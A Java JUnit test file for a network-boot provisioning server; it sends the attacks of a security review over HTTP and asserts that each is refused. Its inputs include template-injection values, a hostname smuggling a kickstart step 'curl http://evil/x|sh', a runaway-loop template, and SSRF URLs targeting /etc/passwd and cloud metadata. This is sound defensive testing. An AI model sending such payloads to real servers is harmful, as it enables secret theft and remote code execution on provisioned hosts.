package io.bergenholm.netboot.http;

import static io.bergenholm.netboot.http.HttpRoutesTest.assertError;
import static io.bergenholm.netboot.http.HttpRoutesTest.json;
import static org.assertj.core.api.Assertions.assertThat;

import io.bergenholm.api.Params;
import io.bergenholm.engine.Bergenholm;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The attacks of the security review, by an anonymous machine on the provisioning network, against
 * a running server over real HTTP: each must now fail to do harm.
 */
class BootSideAttacksTest {
  private static final String UUID = "4c4c4544-0000-1111-2222-555555555555";
  private TestServer s;

  @BeforeEach
  void start() {
    s = TestServer.start().seeded();
    s.engine.createTemplate(
        "ks-host", "network --hostname={{ hostname }}\nrootpw {{ root_password }}\n");
  }

  @AfterEach
  void stop() {
    s.close();
  }

  @Test
  void templateCodeInARegisteredFactIsRefusedNamingTheFact() {
    assertError(
        s.get("/ipxe/register/" + UUID + "?hostname=%7B%7B%20root_password%20%7D%7D"),
        400,
        "registration fact 'hostname'");
    assertError(
        s.get("/ipxe/register/" + UUID + "?serial=%7B%25%20include%20'ks'%20%25%7D"),
        400,
        "registration fact 'serial'");
    assertError(
        s.get(
            "/ipxe/register/"
                + UUID
                + "?hostname=x%0A%25post%0Acurl%20http://evil/x%7Csh%0A%25end"),
        400,
        "registration fact 'hostname'");
    assertError(s.get("/ipxe/register/" + UUID + "?product=a%00b"), 400, "control character");
    assertError(s.get("/ipxe/register/" + UUID + "?manufacturer=%ff%fe"), 400, "not valid UTF-8");
    assertError(s.get("/ipxe/register/" + UUID + "?asset=" + "x".repeat(200)), 400, "longer than");
    assertThat(s.get("/api/1.0/hosts/" + UUID).statusCode()).isEqualTo(404);

    HttpResponse<String> ok =
        s.get(
            "/ipxe/register/"
                + UUID.toUpperCase()
                + "?manufacturer=QEMU&product=Standard%20PC%20(Q35)&hostname=node-7");
    assertThat(ok.statusCode()).as(ok.body()).isEqualTo(201);
    assertThat(json(s.get("/api/1.0/hosts/" + UUID)).path("registered_by").asText())
        .contains("unauthenticated");
    assertThat(s.get("/api/1.0/templates/ks-host/" + UUID).body())
        .isEqualTo("network --hostname=node-7\nrootpw hunter2hunter2");
  }

  @Test
  void onlyUuidsRegisterAndJunkIdsResolveNothing() {
    assertError(s.get("/ipxe/register/%ff%fe?serial=1"), 400, "is not a UUID");
    assertError(s.get("/ipxe/register/new-machine?serial=1"), 400, "is not a UUID");
    assertError(s.get("/ipxe/script/new-machine"), 404, "new-machine");
    assertError(s.get("/ipxe/script/%ff%fe"), 400, "is not a UUID");
    assertError(s.get("/api/1.0/templates/ks/%ff%fe"), 400, "is not a UUID");
    assertThat(json(s.get("/api/1.0/hosts")).path("hosts")).hasSize(3);
    // Names of hosts that exist (the compatible fixture's) still work on the boot side.
    assertThat(s.get("/ipxe/script/samplehost").statusCode()).isEqualTo(200);
  }

  @Test
  void aHostileFactAlreadyStoredIsNeverRendered() {
    s.engine.createHost(
        UUID, Params.of(Map.of("groups", List.of("default"), "hostname", "{{ root_password }}")));
    HttpResponse<String> r = s.get("/api/1.0/templates/ks-host/" + UUID);
    assertError(r, 400, "parameter 'hostname' of host '" + UUID + "' is a machine fact");
    assertThat(r.body()).doesNotContain("hunter2");
  }

  @Test
  void theIssuesRoundFilterFailsFastAndIsNotRenderedAgain() {
    s.engine.createTemplate("round.ipxe", "#!ipxe\necho {{ 1.5|round(10000000) }}\n");
    s.engine.createHost(UUID, Params.of(Map.of("ipxe_script", "round.ipxe")));
    for (int i = 0; i < 3; i++) {
      assertError(
          s.get("/ipxe/script/" + UUID), 400, "round() precision 10000000 is above the limit");
    }
  }

  @Test
  void fourHostileRendersInFlightDoNotHoldUpANormalBoot() throws Exception {
    try (TestServer slow =
        TestServer.start(
                Bergenholm.builder()
                    .config(
                        Map.of(
                            "store",
                            "memory:",
                            "renderer.max_nodes",
                            "4000000000",
                            "renderer.timeout_ms",
                            "600000",
                            Bergenholm.RENDER_DEADLINE_MS,
                            "10000"))
                    .build(),
                HttpSettings.of(TestServer.loopback()))
            .seeded()) {
      slow.engine.createTemplate(
          "endless.ipxe",
          "{% for i in range(10000) %}{% for j in range(10000) %}"
              + "{% for k in range(10000) %}{% set x = i + j + k %}{% endfor %}{% endfor %}{% endfor %}");
      List<String> hostile = new ArrayList<>();
      List<CompletableFuture<HttpResponse<String>>> inFlight = new ArrayList<>();
      for (int i = 0; i < 4; i++) {
        String id = String.format("0badc0de-0000-4000-8000-%012d", i);
        hostile.add(id);
        slow.engine.createHost(id, Params.of(Map.of("ipxe_script", "endless.ipxe")));
      }
      for (String id : hostile) {
        inFlight.add(CompletableFuture.supplyAsync(() -> slow.get("/ipxe/script/" + id)));
      }
      long deadline = System.nanoTime() + 20_000_000_000L;
      while (busyRenderThreads() < 4 && System.nanoTime() < deadline) {
        Thread.sleep(20);
      }
      assertThat(busyRenderThreads()).as("four hostile renders running").isGreaterThanOrEqualTo(4);

      HttpResponse<String> normal = slow.get("/ipxe/script/samplehost");
      assertThat(normal.statusCode()).isEqualTo(200);
      assertThat(normal.body()).startsWith("#!ipxe\nkernel ");
      assertThat(inFlight)
          .as("the normal boot was answered before any hostile render ended")
          .noneMatch(CompletableFuture::isDone);

      for (int i = 0; i < 4; i++) {
        HttpResponse<String> r = inFlight.get(i).get();
        assertError(r, 400, "template 'endless.ipxe' for host '" + hostile.get(i) + "' stopped");
      }
    }
  }

  /**
   * A host's kernel pointing at a file, a metadata service or the server's own API is not served.
   */
  @Test
  void imageUrlsCannotReachFilesMetadataOrTheServerItself(
      @org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    Bergenholm engine = TestServer.memoryEngine();
    io.bergenholm.engine.image.ImageService images =
        io.bergenholm.engine.image.ImageService.forEngine(
            engine, Map.of("images.cache_dir", dir.resolve("cache").toString()));
    try (TestServer srv =
        TestServer.start(engine, HttpSettings.of(TestServer.loopback()), images).seeded()) {
      String self = srv.base + "/api/1.0/hosts/samplehost?params=all";
      Map<String, String> kernels =
          Map.of(
              "0000000a-0000-4000-8000-000000000001",
              "file:///etc/passwd",
              "0000000a-0000-4000-8000-000000000002",
              "http://169.254.169.254/latest/meta-data/iam/",
              "0000000a-0000-4000-8000-000000000003",
              self,
              "0000000a-0000-4000-8000-000000000004",
              "http://localhost:" + srv.server.bootAddress().getPort() + "/healthz");
      for (Map.Entry<String, String> e : kernels.entrySet()) {
        engine.createHost(e.getKey(), Params.of(Map.of("kernel", e.getValue())));
      }
      assertError(
          srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000001"), 400, "scheme 'file'");
      assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000002"), 400, "link-local");
      assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000003"), 400, "loopback");
      assertError(srv.get("/ipxe/kernel/0000000a-0000-4000-8000-000000000004"), 400, "loopback");
    } finally {
      images.close();
    }
  }

  /**
   * Seeded random register queries over real HTTP: every answer a clean 201 or 400, nothing leaks.
   */
  @Test
  void fuzzRegisterQueriesOverHttp() throws Exception {
    long seed = Long.getLong("fuzz.seed", 11L);
    Random random = new Random(seed);
    int threadsBefore = Thread.activeCount();
    int created = 0;
    int refused = 0;
    // Every request comes from 127.0.0.1, so that address's registration allowance must cover the
    // whole run; the limit itself is TransportLimitsTest's subject.
    try (TestServer fuzz =
            TestServer.start(
                    TestServer.memoryEngine(),
                    HttpSettings.of(TestServer.loopback())
                        .withTransport(
                            TransportLimits.defaults().withRegistrations(100_000, 10_000, 100_000)))
                .seeded();
        RawHttp raw = new RawHttp(fuzz.server.bootAddress().getPort())) {
      for (int i = 0; i < 3000; i++) {
        String path = "/ipxe/register/" + randomId(random) + "?" + randomQuery(random);
        raw.write("GET " + path + " HTTP/1.1\r\nHost: t\r\n\r\n");
        RawHttp.Response r = raw.read(false);
        assertThat(r.status())
            .as("seed %d request %d: %s -> %s", seed, i, path, r.text())
            .isIn(201, 400);
        if (r.status() == 201) {
          created++;
        } else {
          assertThat(r.text())
              .as("seed %d: %s", seed, path)
              .containsAnyOf(
                  "registration fact '", "is not a UUID", "already exists", "query parameters");
          refused++;
        }
      }
    }
    assertThat(created).isGreaterThan(100);
    assertThat(refused).isGreaterThan(100);
    for (String id : s.engine.listHosts(Map.of())) {
      Params p = s.engine.host(id).orElseThrow().value();
      for (String fact : Bergenholm.REGISTER_FACTS) {
        p.string(fact)
            .ifPresent(
                v ->
                    assertThat(v)
                        .doesNotContain("{")
                        .doesNotContain("%")
                        .doesNotContainPattern("\\p{Cntrl}"));
      }
    }
    assertThat(s.get("/healthz").statusCode()).isEqualTo(200);
    assertThat(Thread.activeCount()).as("threads").isLessThanOrEqualTo(threadsBefore + 16);
  }

  private static String randomId(Random r) {
    return switch (r.nextInt(4)) {
      case 0, 1 ->
          String.format("%08x-0000-4000-8000-%012x", r.nextInt(), (long) r.nextInt(1 << 20));
      case 2 -> String.format("%08X-0000-4000-8000-%012x", r.nextInt(16), 0L);
      default -> randomEncoded(r, 1 + r.nextInt(40));
    };
  }

  private static String randomQuery(Random r) {
    StringBuilder b = new StringBuilder();
    String[] names = {"manufacturer", "product", "serial", "asset", "hostname", "x"};
    int n = r.nextInt(7);
    for (int i = 0; i < n; i++) {
      if (i > 0) {
        b.append('&');
      }
      b.append(names[r.nextInt(names.length)]).append('=');
      b.append(
          r.nextBoolean()
              ? "node-" + r.nextInt(1000)
              : randomEncoded(r, r.nextInt(r.nextInt(10) == 0 ? 300 : 20)));
    }
    return b.toString();
  }

  /** Random bytes, percent-encoded (so any byte, invalid UTF-8 included), or plain letters. */
  private static String randomEncoded(Random r, int n) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < n; i++) {
      if (r.nextInt(3) == 0) {
        b.append((char) ('a' + r.nextInt(26)));
      } else {
        b.append(String.format("%%%02X", r.nextInt(256)));
      }
    }
    return b.toString();
  }

  static long busyRenderThreads() {
    return Thread.getAllStackTraces().entrySet().stream()
        .filter(
            e ->
                e.getKey().getName().startsWith("bergenholm-render-")
                    && !e.getKey().getName().endsWith("watchdog"))
        .filter(e -> e.getKey().getState() == Thread.State.RUNNABLE)
        .filter(
            e ->
                List.of(e.getValue()).stream()
                    .anyMatch(f -> f.getClassName().startsWith("com.hubspot.jinjava")))
        .count();
  }
}
